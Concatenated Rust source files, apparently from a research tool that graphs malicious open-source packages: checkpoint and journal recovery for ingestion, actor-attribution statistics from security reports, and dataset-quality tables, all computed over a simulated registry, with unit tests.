
    /// Reads journal entry `window`; `Ok(None)` when it was never
    /// written.
    ///
    /// # Errors
    ///
    /// Corruption (framing, checksum, schema) or an entry whose
    /// recorded window index disagrees with its file name.
    pub fn read_journal(&self, window: usize) -> Result<Option<CorpusDelta>, CheckpointError> {
        let Some(body) = open_body(&self.journal_path(window), JOURNAL_TAG)? else {
            return Ok(None);
        };
        let delta = crawler::import_delta_json(&body)
            .map_err(|e| CheckpointError::Malformed(e.to_string()))?;
        if delta.window != window {
            return Err(CheckpointError::Malformed(format!(
                "journal file for window {window} contains window {}",
                delta.window
            )));
        }
        Ok(Some(delta))
    }

    /// The generation numbers present on disk, ascending. Stale temp
    /// siblings (crash leftovers) and foreign files are ignored.
    ///
    /// # Errors
    ///
    /// Propagates directory-listing failures.
    pub fn generations(&self) -> Result<Vec<usize>, CheckpointError> {
        let mut found = Vec::new();
        for entry in std::fs::read_dir(&self.dir)? {
            let entry = entry?;
            if let Some(n) = entry.file_name().to_str().and_then(|n| numbered_file(n, "gen-")) {
                found.push(n);
            }
        }
        found.sort_unstable();
        Ok(found)
    }

    /// Writes a generation snapshot of `state`, named after the number
    /// of windows applied.
    ///
    /// # Errors
    ///
    /// Propagates write failures.
    pub fn write_generation(&self, state: &IngestState) -> Result<(), CheckpointError> {
        let _span = obs::span!("checkpoint/write");
        let body = snapshot_body(state);
        seal_body(&self.generation_path(state.windows), GENERATION_TAG, &body)?;
        obs::counter_add("checkpoint.generations_written", 1);
        Ok(())
    }

    /// Reads and validates generation `windows`.
    ///
    /// # Errors
    ///
    /// `Io` when missing (a generation is read by number from
    /// [`CheckpointStore::generations`], so absence is unexpected),
    /// otherwise the usual corruption ladder.
    pub fn read_generation(&self, windows: usize) -> Result<Snapshot, CheckpointError> {
        let body = open_body(&self.generation_path(windows), GENERATION_TAG)?.ok_or_else(|| {
            CheckpointError::Io(io::Error::new(
                io::ErrorKind::NotFound,
                format!("generation {windows} missing"),
            ))
        })?;
        let root = jsonio::Value::parse(&body)
            .map_err(|e| CheckpointError::Malformed(format!("snapshot: {e}")))?;
        snapshot_from_value(&root)
    }

    /// Deletes all but the newest `keep` generations. Journals are
    /// never pruned — they are the last rung of the fallback ladder.
    ///
    /// # Errors
    ///
    /// Propagates listing/removal failures.
    pub fn prune_generations(&self, keep: usize) -> Result<(), CheckpointError> {
        let generations = self.generations()?;
        for &windows in generations.iter().rev().skip(keep) {
            std::fs::remove_file(self.generation_path(windows))?;
            obs::counter_add("checkpoint.generations_pruned", 1);
        }
        Ok(())
    }
}

/// Builds the snapshot document straight from live ingest state (no
/// intermediate clone of the corpus or the pair lists — at full scale
/// those are hundreds of megabytes).
///
/// Two representation choices keep generation I/O linear-time where a
/// naive encoding is allocation-bound:
///
/// * similar pairs are one flat `"a,b a,b …"` string per ecosystem, not
///   nested JSON arrays — the Similar graph carries millions of pairs
///   at full scale, and a `Value` tree with three heap nodes per pair
///   turns both serialisation and parse into multi-second allocation
///   storms;
/// * `f32` trace values are stored as raw bit patterns — JSON floats
///   would round-trip through decimal and the identity contract is
///   *byte* identity, not approximate identity.
///
/// The body is rendered compact, not pretty: nobody reads a generation
/// file by eye, and the indentation would double its size.
fn snapshot_body(state: &IngestState) -> String {
    use std::fmt::Write as _;
    let similarity: Vec<jsonio::Value> = Ecosystem::ALL
        .iter()
        .zip(&state.eco)
        .filter_map(|(&eco, memo)| {
            let out = memo.output.as_deref()?;
            let mut pairs = String::with_capacity(out.pairs.len() * 12);
            for &(a, b) in &out.pairs {
                if !pairs.is_empty() {
                    pairs.push(' ');
                }
                let _ = write!(pairs, "{a},{b}");
            }
            Some(jsonio::object! {
                "ecosystem": eco.slug(),
                "entries_len": memo.entries_len,
                "chosen_k": out.chosen_k,
                "pairs": pairs,
                "trace": out
                    .trace
                    .iter()
                    .map(|&(k, inertia)| {
                        jsonio::Value::Array(vec![k.into(), inertia.to_bits().into()])
                    })
                    .collect::<Vec<_>>(),
            })
        })
        .collect();
    jsonio::object! {
        "format_version": 1u32,
        "windows_applied": state.windows,
        "similarity": similarity,
        "corpus": crawler::dataset_value(&state.dataset, ExportFidelity::Full),
    }
    .to_compact()
}

fn snapshot_from_value(root: &jsonio::Value) -> Result<Snapshot, CheckpointError> {
    let bad = |what: &str| CheckpointError::Malformed(format!("snapshot: bad field {what:?}"));
    let version = root
        .get("format_version")
        .and_then(|v| v.as_u64())
        .ok_or_else(|| bad("format_version"))?;
    if version != 1 {
        return Err(CheckpointError::Malformed(format!(
            "snapshot: unsupported format version {version}"
        )));
    }
    let windows_applied = root
        .get("windows_applied")
        .and_then(|v| v.as_u64())
        .ok_or_else(|| bad("windows_applied"))? as usize;
    let dataset = crawler::dataset_from_value(root.get("corpus").ok_or_else(|| bad("corpus"))?)
        .map_err(|e| CheckpointError::Malformed(e.to_string()))?;
    let mut similarity = Vec::new();
    for entry in root
        .get("similarity")
        .and_then(|v| v.as_array())
        .ok_or_else(|| bad("similarity"))?
    {
        let eco: Ecosystem = entry
            .get("ecosystem")
            .and_then(|v| v.as_str())
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| bad("similarity.ecosystem"))?;
        let entries_len = entry
            .get("entries_len")
            .and_then(|v| v.as_u64())
            .ok_or_else(|| bad("similarity.entries_len"))? as usize;
        let chosen_k = entry
            .get("chosen_k")
            .and_then(|v| v.as_u64())
            .ok_or_else(|| bad("similarity.chosen_k"))? as usize;
        let encoded = entry
            .get("pairs")
            .and_then(|v| v.as_str())
            .ok_or_else(|| bad("similarity.pairs"))?;
        let mut pairs = Vec::new();
        if !encoded.is_empty() {
            for token in encoded.split(' ') {
                let pair = token.split_once(',').and_then(|(a, b)| {
                    Some((a.parse::<usize>().ok()?, b.parse::<usize>().ok()?))
                });
                match pair {
                    Some(p) => pairs.push(p),
                    None => return Err(bad("similarity.pairs")),
                }
            }
        }
        let mut trace = Vec::new();
        for step in entry
            .get("trace")
            .and_then(|v| v.as_array())
            .ok_or_else(|| bad("similarity.trace"))?
        {
            let items = step.as_array().ok_or_else(|| bad("similarity.trace"))?;
            match (items.first().and_then(|v| v.as_u64()), items.get(1).and_then(|v| v.as_u64())) {
                (Some(k), Some(bits)) if items.len() == 2 && bits <= u64::from(u32::MAX) => {
                    trace.push((k as usize, f32::from_bits(bits as u32)));
                }
                _ => return Err(bad("similarity.trace")),
            }
        }
        similarity.push((
            eco,
            entries_len,
            SimilarityOutput {
                pairs,
                chosen_k,
                trace,
            },
        ));
    }
    Ok(Snapshot {
        windows_applied,
        dataset,
        similarity,
    })
}

/// Rebuilds a live graph + ingest state from a validated snapshot.
///
/// Node and edge stages re-run through the shared `build` helpers (the
/// same stage order as [`build::build`]); the expensive similarity
/// stage is *not* re-run — the persisted outputs are applied directly,
/// after checking each job's entry-list length against the snapshot
/// (append-only entry lists make an equal length proof of equality, the
/// same argument the ingest memo rests on).
///
/// # Errors
///
/// `Malformed` when the snapshot's similarity outputs do not line up
/// with the corpus it carries — a spliced or hand-edited snapshot; the
/// recovery ladder treats it like any other corruption.
pub fn restore(snapshot: Snapshot, _options: &BuildOptions) -> Result<(MalGraph, IngestState), CheckpointError> {
    let _span = obs::span!("recover/restore");
    let mut graph = MalGraph::empty();
    let mut state = IngestState::new();
    state.dataset = snapshot.dataset;
    state.windows = snapshot.windows_applied;
    // Consumed by-value so the corpus and the pair lists (hundreds of
    // megabytes at full scale) move instead of cloning.
    let mut stored: Vec<Option<(Ecosystem, usize, SimilarityOutput)>> =
        snapshot.similarity.into_iter().map(Some).collect();

    build::emit_package_nodes(
        &mut graph.graph,
        &mut graph.primary,
        &mut state.nodes_by_pkg,
        &state.dataset.packages,
    );
    build::emit_duplicated_edges(&mut graph.graph, &state.nodes_by_pkg);
    build::emit_dependency_edges(&mut graph.graph, &graph.primary, &state.dataset.packages);
    let jobs = build::similarity_jobs(&state.dataset.packages);
    let mut outputs: Vec<Arc<SimilarityOutput>> = Vec::with_capacity(jobs.len());
    for (eco, entries) in &jobs {
        let (_, entries_len, stored_output) = stored
            .iter_mut()
            .find(|s| s.as_ref().is_some_and(|(stored_eco, _, _)| stored_eco == eco))
            .and_then(Option::take)
            .ok_or_else(|| {
                CheckpointError::Malformed(format!(
                    "snapshot lacks similarity output for {}",
                    eco.slug()
                ))
            })?;
        if entries_len != entries.len() {
            return Err(CheckpointError::Malformed(format!(
                "snapshot similarity for {} covers {} entries, corpus has {}",
                eco.slug(),
                entries_len,
                entries.len()
            )));
        }
        let output = Arc::new(stored_output);
        let slot = Ecosystem::ALL
            .iter()
            .position(|e| e == eco)
            .expect("ecosystem listed in ALL");
        state.eco[slot] = EcoState {
            cache: SimilarityCache::default(),
            entries_len,
            output: Some(Arc::clone(&output)),
        };
        outputs.push(output);
    }
    let (diagnostics, _) =
        build::apply_similarity_outputs(&mut graph.graph, &graph.primary, &jobs, outputs);
    graph.similarity_diagnostics = diagnostics;
    build::emit_coexisting_edges(&mut graph.graph, &graph.primary, &state.dataset.reports);
    Ok((graph, state))
}

/// The recovery fallback ladder: newest generation → older generations
/// → journal replay → (implicitly) full rebuild from an empty graph.
/// Every rung is counted:
///
/// * `recovery.resumed{stage=checkpoint}` — a generation loaded;
/// * `recovery.discarded{stage=checkpoint}` — a generation failed
///   validation and was skipped;
/// * `recovery.fallbacks{stage=generation}` — fell back from a failed
///   generation to try an older one (or the journal);
/// * `recovery.replayed{stage=journal}` — one journaled delta replayed
///   beyond the resumed generation;
/// * `recovery.discarded{stage=journal}` — a journal entry failed
///   validation, ending replay at that window;
/// * `recovery.fallbacks{stage=rebuild}` — the ladder bottomed out with
///   nothing usable although checkpoint data existed.
///
/// A pristine directory recovers to an empty graph with *zero* counters
/// — a cold start is not a fallback.
///
/// # Errors
///
/// Only real I/O failures (unreadable directory). Corruption never
/// errors out of recovery; it degrades.
pub fn recover(
    store: &CheckpointStore,
    options: &BuildOptions,
) -> Result<(MalGraph, IngestState), CheckpointError> {
    let _span = obs::span!("recover");
    let generations = store.generations()?;
    let had_generations = !generations.is_empty();
    let mut resumed: Option<(MalGraph, IngestState)> = None;
    {
        let _stage = obs::span!("recover/checkpoint");
        for &windows in generations.iter().rev() {
            match store.read_generation(windows).and_then(|s| restore(s, options)) {
                Ok(pair) => {
                    obs::counter_add("recovery.resumed{stage=checkpoint}", 1);
                    resumed = Some(pair);
                    break;
                }
                Err(_) => {
                    obs::counter_add("recovery.discarded{stage=checkpoint}", 1);
                    obs::counter_add("recovery.fallbacks{stage=generation}", 1);
                }
            }
        }
    }
    let (mut graph, mut state) = resumed.unwrap_or_else(|| (MalGraph::empty(), IngestState::new()));
    let mut journal_tail_corrupt = false;
    {
        let _stage = obs::span!("recover/journal");
        loop {
            match store.read_journal(state.windows_applied()) {
                Ok(Some(delta)) => {
                    graph.apply_delta(&delta, options, &mut state);
                    obs::counter_add("recovery.replayed{stage=journal}", 1);
                }
                Ok(None) => break,
                Err(_) => {
                    // Replay must stop at the first bad entry: windows
                    // apply in order, so later entries are unreachable.
                    obs::counter_add("recovery.discarded{stage=journal}", 1);
                    journal_tail_corrupt = true;
                    break;
                }
            }
        }
    }
    if state.windows_applied() == 0 && (had_generations || journal_tail_corrupt) {
        obs::counter_add("recovery.fallbacks{stage=rebuild}", 1);
    }
    Ok((graph, state))
}

/// Generation retention / cadence of the checkpointed driver.
#[derive(Debug, Clone, Copy)]
pub struct CheckpointOptions {
    /// Write a generation every `every` windows (the last window always
    /// checkpoints, so a finished run is resumable as finished).
    pub every: usize,
    /// Generations retained after each write (≥ 1; the default keeps
    /// two so a corrupted latest still has a predecessor).
    pub keep: usize,
}

impl Default for CheckpointOptions {
    fn default() -> CheckpointOptions {
        CheckpointOptions { every: 1, keep: 2 }
    }
}

/// The checkpointed ingest driver: recover whatever the directory
/// holds, then journal + apply + checkpoint each remaining delta of
/// `deltas` (which must be the full window plan of the run — recovery
/// decides where in it to resume). Kill it at any [`CRASH_POINTS`]
/// entry, run it again, and the final graph/state are byte-identical to
/// an uninterrupted run.
///
/// # Errors
///
/// [`IngestRunError::Crashed`] when the armed crash point fired (the
/// returned graph/state would be torn, so there are none), or
/// [`IngestRunError::Store`] on a real checkpoint-store failure.
pub fn run_checkpointed_ingest(
    deltas: &[CorpusDelta],
    options: &BuildOptions,
    store: &CheckpointStore,
    crash: &CrashPlan,
    checkpointing: &CheckpointOptions,
) -> Result<(MalGraph, IngestState), IngestRunError> {
    let _span = obs::span!("ingest/checkpointed");
    crash.fire("collect/merge").map_err(IngestRunError::Crashed)?;
    let (mut graph, mut state) = recover(store, options).map_err(IngestRunError::Store)?;
    let every = checkpointing.every.max(1);
    let checkpoint = |state: &IngestState| -> Result<(), IngestRunError> {
        crash.fire("checkpoint/write").map_err(IngestRunError::Crashed)?;
        store.write_generation(state).map_err(IngestRunError::Store)?;
        crash.fire("checkpoint/publish").map_err(IngestRunError::Crashed)?;
        store
            .prune_generations(checkpointing.keep.max(1))
            .map_err(IngestRunError::Store)
    };
    for delta in crawler::resume_windows(deltas, state.windows_applied()) {
        store.append_journal(delta).map_err(IngestRunError::Store)?;
        crash.fire("ingest/journal").map_err(IngestRunError::Crashed)?;
        graph
            .apply_delta_with(delta, options, &mut state, crash)
            .map_err(IngestRunError::Crashed)?;
        let finished = state.windows_applied() == deltas.len();
        if state.windows_applied() % every == 0 || finished {
            checkpoint(&state)?;
        }
    }
    // A resume can finish the plan inside `recover` (journal replay
    // caught up) without the loop running at all; seal the final
    // generation anyway, so a finished run restores as finished instead
    // of re-replaying its last windows on every recovery.
    if state.windows_applied() == deltas.len()
        && !deltas.is_empty()
        && store
            .generations()
            .map_err(IngestRunError::Store)?
            .last()
            .copied()
            != Some(deltas.len())
    {
        checkpoint(&state)?;
    }
    Ok((graph, state))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::build;
    use crate::node::Relation;
    use crawler::{collect, partition_windows};
    use registry_sim::{WindowPlan, World, WorldConfig};
    use std::sync::{OnceLock, RwLock};

    /// The obs registry is process-global. The one test that *reads*
    /// recovery counters takes the write side; every test that might
    /// *emit* them (anything calling `recover` or the driver) takes the
    /// read side, so emitters never land inside the reader's window.
    fn obs_gate() -> &'static RwLock<()> {
        static GATE: OnceLock<RwLock<()>> = OnceLock::new();
        GATE.get_or_init(RwLock::default)
    }

    fn temp_store(name: &str) -> CheckpointStore {
        let dir = std::env::temp_dir().join(format!("malgraph-ckpt-{}-{}", name, std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        CheckpointStore::open(&dir).unwrap()
    }

    fn fixture() -> (Vec<CorpusDelta>, BuildOptions) {
        let world = World::generate(WorldConfig::small(37));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 3);
        (partition_windows(&dataset, &plan), BuildOptions::default())
    }

    fn graph_signature(graph: &MalGraph) -> (usize, Vec<(usize, usize, Relation)>) {
        (
            graph.graph.node_count(),
            graph
                .graph
                .edges()
                .map(|e| (e.from.index(), e.to.index(), e.label))
                .collect(),
        )
    }

    #[test]
    fn uninterrupted_checkpointed_run_matches_oracle() {
        let _gate = obs_gate().read().unwrap_or_else(|e| e.into_inner());
        let (deltas, options) = fixture();
        let store = temp_store("clean");
        let (graph, state) =
            run_checkpointed_ingest(&deltas, &options, &store, &CrashPlan::none(), &CheckpointOptions::default())
                .unwrap();
        let oracle = build(&crawler::union_dataset(&deltas), &options);
        assert_eq!(graph_signature(&graph), graph_signature(&oracle));
        assert_eq!(state.windows_applied(), deltas.len());
        // Last two generations retained, all journals retained.
        let generations = store.generations().unwrap();
        assert_eq!(generations, vec![deltas.len() - 1, deltas.len()]);
        for w in 0..deltas.len() {
            assert!(store.read_journal(w).unwrap().is_some());
        }
        let _ = std::fs::remove_dir_all(store.dir());
    }

    #[test]
    fn snapshot_round_trips_and_restores_identically() {
        let _gate = obs_gate().read().unwrap_or_else(|e| e.into_inner());
        let (deltas, options) = fixture();
        let store = temp_store("roundtrip");
        let (graph, state) =
            run_checkpointed_ingest(&deltas, &options, &store, &CrashPlan::none(), &CheckpointOptions::default())
                .unwrap();
        let snapshot = store.read_generation(deltas.len()).unwrap();
        assert_eq!(snapshot.windows_applied, deltas.len());
        assert_eq!(snapshot.dataset.packages, state.dataset().packages);
        let (restored, restored_state) = restore(snapshot, &options).unwrap();
        assert_eq!(graph_signature(&restored), graph_signature(&graph));
        assert_eq!(restored_state.windows_applied(), state.windows_applied());
        // Diagnostics — including the f32 traces — must be bit-exact.
        assert_eq!(
            restored.similarity_diagnostics.len(),
            graph.similarity_diagnostics.len()
        );
        for ((ea, oa), (eb, ob)) in restored
            .similarity_diagnostics
            .iter()
            .zip(&graph.similarity_diagnostics)
        {
            assert_eq!(ea, eb);
            assert_eq!(oa.pairs, ob.pairs);
            assert_eq!(oa.chosen_k, ob.chosen_k);
            let bits_a: Vec<(usize, u32)> = oa.trace.iter().map(|&(k, f)| (k, f.to_bits())).collect();
            let bits_b: Vec<(usize, u32)> = ob.trace.iter().map(|&(k, f)| (k, f.to_bits())).collect();
            assert_eq!(bits_a, bits_b, "f32 traces must round-trip exactly");
        }
        let _ = std::fs::remove_dir_all(store.dir());
    }

    #[test]
    fn recovery_of_pristine_directory_is_a_cold_start() {
        let _gate = obs_gate().write().unwrap_or_else(|e| e.into_inner());
        let store = temp_store("pristine");
        obs::reset();
        obs::enable();
        let (graph, state) = recover(&store, &BuildOptions::default()).unwrap();
        let snap = obs::snapshot();
        obs::disable();
        assert_eq!(graph.graph.node_count(), 0);
        assert_eq!(state.windows_applied(), 0);
        assert!(
            !snap.counters.iter().any(|(name, _)| name.starts_with("recovery.")),
            "cold start must not count as recovery: {:?}",
            snap.counters
        );
        let _ = std::fs::remove_dir_all(store.dir());
    }

    #[test]
    fn bit_flip_in_latest_generation_falls_back_to_previous() {
        let _gate = obs_gate().read().unwrap_or_else(|e| e.into_inner());
        let (deltas, options) = fixture();
        let store = temp_store("bitflip");
        let (graph, _) =
            run_checkpointed_ingest(&deltas, &options, &store, &CrashPlan::none(), &CheckpointOptions::default())
                .unwrap();
        // Flip one bit inside the body of the newest generation.
        let path = store.dir().join(format!("gen-{:06}.json", deltas.len()));
        let mut bytes = std::fs::read(&path).unwrap();
        let target = bytes.len() - 40;
        bytes[target] ^= 0x10;
        std::fs::write(&path, &bytes).unwrap();
        assert!(matches!(
            store.read_generation(deltas.len()),
            Err(CheckpointError::ChecksumMismatch { .. })
        ));
        let (recovered, state) = recover(&store, &options).unwrap();
        assert_eq!(state.windows_applied(), deltas.len(), "journal replay catches up");
        assert_eq!(graph_signature(&recovered), graph_signature(&graph));
        let _ = std::fs::remove_dir_all(store.dir());
    }

    #[test]
    fn run_stamp_round_trips_exactly() {
        let store = temp_store("stamp");
        assert!(store.run_stamp().unwrap().is_none());
        let stamp = RunStamp::new(42, 0.1, 7);
        store.write_run_stamp(&stamp).unwrap();
        let back = store.run_stamp().unwrap().unwrap();
        assert_eq!(back, stamp);
        assert_eq!(back.scale(), 0.1, "f64 scale is bit-exact");
        let _ = std::fs::remove_dir_all(store.dir());
    }

    #[test]
    fn truncated_journal_entry_stops_replay_without_panicking() {
        let _gate = obs_gate().read().unwrap_or_else(|e| e.into_inner());
        let (deltas, options) = fixture();
        let store = temp_store("tornjournal");
        for delta in &deltas {
            store.append_journal(delta).unwrap();
        }
        // Truncate the second entry mid-body.
        let path = store.dir().join("journal").join("window-000001.json");
        let text = std::fs::read_to_string(&path).unwrap();
        std::fs::write(&path, &text[..text.len() / 2]).unwrap();
        let (graph, state) = recover(&store, &options).unwrap();
        assert_eq!(state.windows_applied(), 1, "replay stops at the torn entry");
        let oracle = build(&crawler::union_dataset(&deltas[..1]), &options);
        assert_eq!(graph_signature(&graph), graph_signature(&oracle));
        let _ = std::fs::remove_dir_all(store.dir());
    }
}
