//! RQ3 (context) — actor attribution from security reports.
//!
//! The paper's fourth finding: "while malicious packages often lack
//! context about how and who released them, security reports disclose the
//! information about corresponding SSC attack campaigns." This module
//! measures that: how many co-existing groups come with a disclosed actor
//! handle, whether multiple reports about the same group agree, and — as
//! validation against simulator ground truth — whether the disclosed
//! handle is *correct*.

use crate::build::MalGraph;
use crate::node::Relation;
use crawler::CollectedDataset;
use oss_types::PackageId;
use std::collections::{HashMap, HashSet};

/// Attribution summary over the co-existing groups.
#[derive(Debug, Clone, PartialEq)]
pub struct AttributionSummary {
    /// Total CG groups.
    pub groups: usize,
    /// Groups with at least one disclosed actor handle.
    pub attributed: usize,
    /// Groups where every disclosing report names the same actor.
    pub consistent: usize,
    /// Groups named by ≥2 reports that disagree on the actor.
    pub conflicting: usize,
    /// Fraction of *packages* (not groups) that gained actor context.
    pub package_coverage: f64,
}

impl AttributionSummary {
    /// Fraction of groups with any attribution.
    pub fn attribution_rate(&self) -> f64 {
        if self.groups == 0 {
            0.0
        } else {
            self.attributed as f64 / self.groups as f64
        }
    }
}

/// The disclosed actor handle(s) per CG group, keyed by the group's
/// smallest member package (a stable, data-derived key).
pub fn group_attributions(
    graph: &MalGraph,
    dataset: &CollectedDataset,
) -> HashMap<PackageId, Vec<String>> {
    // Map every package to the actors of the reports naming it.
    let mut actors_by_package: HashMap<&PackageId, Vec<&str>> = HashMap::new();
    for report in &dataset.reports {
        if let Some(actor) = &report.actor {
            for pkg in &report.packages {
                actors_by_package.entry(pkg).or_default().push(actor);
            }
        }
    }
    let mut out = HashMap::new();
    for group in graph.groups(Relation::Coexisting) {
        let mut members: Vec<&PackageId> =
            group.iter().map(|&n| &graph.graph.node(n).package).collect();
        members.sort();
        let key = (*members.first().expect("groups are non-empty")).clone();
        let mut handles: Vec<String> = members
            .iter()
            .filter_map(|p| actors_by_package.get(*p))
            .flatten()
            .map(|s| s.to_string())
            .collect();
        handles.sort();
        handles.dedup();
        out.insert(key, handles);
    }
    out
}

/// Computes the attribution summary.
pub fn attribution_summary(graph: &MalGraph, dataset: &CollectedDataset) -> AttributionSummary {
    let attributions = group_attributions(graph, dataset);
    let groups = attributions.len();
    let attributed = attributions.values().filter(|h| !h.is_empty()).count();
    let consistent = attributions.values().filter(|h| h.len() == 1).count();
    let conflicting = attributions.values().filter(|h| h.len() > 1).count();

    // Package coverage: corpus packages inside an attributed CG.
    let mut covered: HashSet<&PackageId> = HashSet::new();
    for group in graph.groups(Relation::Coexisting) {
        let members: Vec<&PackageId> =
            group.iter().map(|&n| &graph.graph.node(n).package).collect();
        let mut sorted = members.clone();
        sorted.sort();
        let key = (*sorted.first().expect("non-empty")).clone();
        if attributions.get(&key).is_some_and(|h| !h.is_empty()) {
            covered.extend(members);
        }
    }
    AttributionSummary {
        groups,
        attributed,
        consistent,
        conflicting,
        package_coverage: if dataset.packages.is_empty() {
            0.0
        } else {
            covered.len() as f64 / dataset.packages.len() as f64
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::{build, BuildOptions};
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn setup() -> (World, CollectedDataset, MalGraph) {
        let world = World::generate(WorldConfig::small(111));
        let dataset = collect(&world);
        let graph = build(&dataset, &BuildOptions::default());
        (world, dataset, graph)
    }

    #[test]
    fn a_substantial_fraction_of_groups_is_attributed() {
        let (_, dataset, graph) = setup();
        let summary = attribution_summary(&graph, &dataset);
        assert!(summary.groups > 0);
        // The report layer discloses handles ~60% of the time; with
        // several reports per cluster most groups get at least one.
        assert!(
            summary.attribution_rate() > 0.4,
            "attribution rate {:.2}",
            summary.attribution_rate()
        );
        assert!(summary.attributed >= summary.consistent);
        assert_eq!(
            summary.attributed,
            summary.consistent + summary.conflicting,
            "every attributed group is either consistent or conflicting"
        );
    }

    #[test]
    fn disclosed_handles_match_ground_truth_actors() {
        let (world, dataset, graph) = setup();
        let attributions = group_attributions(&graph, &dataset);
        let mut checked = 0usize;
        for (key, handles) in &attributions {
            if handles.len() != 1 {
                continue;
            }
            let truth = world
                .packages
                .iter()
                .find(|p| &p.id == key)
                .and_then(|p| p.campaign)
                .map(|c| world.campaigns[c.index()].actor.handle());
            if let Some(truth) = truth {
                checked += 1;
                assert_eq!(
                    &handles[0], &truth,
                    "report attribution disagrees with ground truth for {key}"
                );
            }
        }
        assert!(checked > 0, "no attributed group could be validated");
    }

    #[test]
    fn loner_packages_gain_no_context() {
        // The paper's point: packages alone carry no actor context —
        // coverage comes only from reports/CGs.
        let (_, dataset, graph) = setup();
        let summary = attribution_summary(&graph, &dataset);
        assert!(
            summary.package_coverage < 0.6,
            "most of the corpus is loners without campaign context, got {:.2}",
            summary.package_coverage
        );
        assert!(summary.package_coverage > 0.0);
    }
}
