//! RQ1 — Dataset quality: update frequency (Table V), missing rates
//! (Table VI) and unavailability causes (Fig. 5).

use crawler::CollectedDataset;
use oss_types::{SimTime, SourceId};

/// One row of Table V.
#[derive(Debug, Clone, PartialEq)]
pub struct UpdateRow {
    /// The source.
    pub source: SourceId,
    /// Most recent disclosure observed in the corpus.
    pub last_update: Option<SimTime>,
    /// Documented cadence label ("one per 2 month" / "Never update").
    pub frequency: &'static str,
    /// Measured: distinct months in which this source disclosed.
    pub active_months: usize,
    /// Measured: median gap between successive disclosures, in days.
    pub median_gap_days: f64,
}

/// Computes Table V: last observed disclosure per source plus *measured*
/// disclosure activity (the paper lists documented cadences; measuring
/// them from the corpus checks the sources actually behave that way).
pub fn update_frequency(dataset: &CollectedDataset) -> Vec<UpdateRow> {
    SourceId::ALL
        .into_iter()
        .map(|source| {
            let mut times: Vec<SimTime> = dataset
                .packages
                .iter()
                .flat_map(|p| p.mentions.iter())
                .filter(|&&(s, _)| s == source)
                .map(|&(_, t)| t)
                .collect();
            times.sort_unstable();
            let mut months: Vec<(i32, u32)> =
                times.iter().map(|t| (t.year(), t.month())).collect();
            months.dedup();
            let mut gaps: Vec<f64> = times
                .windows(2)
                .map(|w| (w[1] - w[0]).as_days_f64())
                .filter(|&g| g > 0.0)
                .collect();
            gaps.sort_by(f64::total_cmp);
            let median_gap_days = if gaps.is_empty() {
                0.0
            } else {
                gaps[gaps.len() / 2]
            };
            UpdateRow {
                source,
                last_update: times.last().copied(),
                frequency: source.update_frequency_label(),
                active_months: months.len(),
                median_gap_days,
            }
        })
        .collect()
}

/// One row of Table VI.
#[derive(Debug, Clone, PartialEq)]
pub struct MissingRow {
    /// The source.
    pub source: SourceId,
    /// Mentions whose package could not be obtained through this source
    /// alone (source archive or mirror).
    pub missing: usize,
    /// Total mentions of the source.
    pub total: usize,
    /// `missing / total` in percent.
    pub single_mr_pct: f64,
    /// Missing after cross-source supplementation, in percent.
    pub all_mr_pct: f64,
}

/// Computes Table VI. *Single MR* treats each source in isolation: a
/// mention is available iff the source ships archives (a dump) or a
/// mirror still holds the package. *All MR* lets any source's archive
/// stand in (the final corpus view).
pub fn missing_rates(dataset: &CollectedDataset) -> (Vec<MissingRow>, f64) {
    let mut rows = Vec::new();
    let mut total_mentions = 0usize;
    let mut total_missing_all = 0usize;
    for source in SourceId::ALL {
        let dump = matches!(
            source.publication_style(),
            oss_types::source::PublicationStyle::DatasetDump
        );
        let mut missing = 0usize;
        let mut missing_all = 0usize;
        let mut total = 0usize;
        for pkg in &dataset.packages {
            let mentions = pkg.mentions.iter().filter(|&&(s, _)| s == source).count();
            if mentions == 0 {
                continue;
            }
            total += mentions;
            let single_available = dump || pkg.mirror_recoverable;
            if !single_available {
                missing += mentions;
            }
            if !pkg.is_available() {
                missing_all += mentions;
            }
        }
        total_mentions += total;
        total_missing_all += missing_all;
        rows.push(MissingRow {
            source,
            missing,
            total,
            single_mr_pct: pct(missing, total),
            all_mr_pct: pct(missing_all, total),
        });
    }
    (rows, pct(total_missing_all, total_mentions))
}

fn pct(num: usize, den: usize) -> f64 {
    if den == 0 {
        0.0
    } else {
        100.0 * num as f64 / den as f64
    }
}

/// Fig. 5 census: why unavailable packages could not be recovered. The
/// measurement-side proxy for the paper's two causes: a package whose
/// *registry metadata* shows an old release date fell off the mirrors'
/// retention window ("released too early"); one that was removed within
/// the fastest mirror-sync interval was never captured ("persistence too
/// short").
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct UnavailabilityCensus {
    /// Released before the mirrors' retention horizon.
    pub released_too_early: usize,
    /// Removed before any plausible sync.
    pub persistence_too_short: usize,
    /// The ecosystem has no mirrors.
    pub no_mirrors: usize,
    /// Missing registry metadata; cause indeterminate.
    pub unknown: usize,
}

/// Classifies every unavailable package by cause, using public registry
/// metadata only. `retention_days` and `fastest_sync_hours` describe the
/// mirror fleet being queried.
pub fn unavailability_census(
    dataset: &CollectedDataset,
    retention_days: u64,
    fastest_sync_hours: u64,
) -> UnavailabilityCensus {
    let mut census = UnavailabilityCensus::default();
    for pkg in &dataset.packages {
        if pkg.is_available() {
            continue;
        }
        if !pkg.id.ecosystem().has_mirrors() {
            census.no_mirrors += 1;
            continue;
        }
        let Some(meta) = pkg.meta else {
            census.unknown += 1;
            continue;
        };
        let persistence_hours = meta
            .removed
            .map(|r| (r - meta.released).as_hours())
            .unwrap_or(u64::MAX);
        if persistence_hours <= fastest_sync_hours {
            census.persistence_too_short += 1;
        } else if let Some(removed) = meta.removed {
            let horizon = removed + oss_types::SimDuration::days(retention_days);
            if horizon <= dataset.collect_time {
                census.released_too_early += 1;
            } else {
                census.persistence_too_short += 1;
            }
        } else {
            census.unknown += 1;
        }
    }
    census
}

#[cfg(test)]
mod tests {
    use super::*;
    use crawler::collect;
    use registry_sim::{World, WorldConfig};

    fn dataset() -> CollectedDataset {
        collect(&World::generate(WorldConfig::small(51)))
    }

    #[test]
    fn table5_covers_all_sources_with_paper_labels() {
        let rows = update_frequency(&dataset());
        assert_eq!(rows.len(), 10);
        let bk = rows
            .iter()
            .find(|r| r.source == SourceId::BackstabberKnife)
            .unwrap();
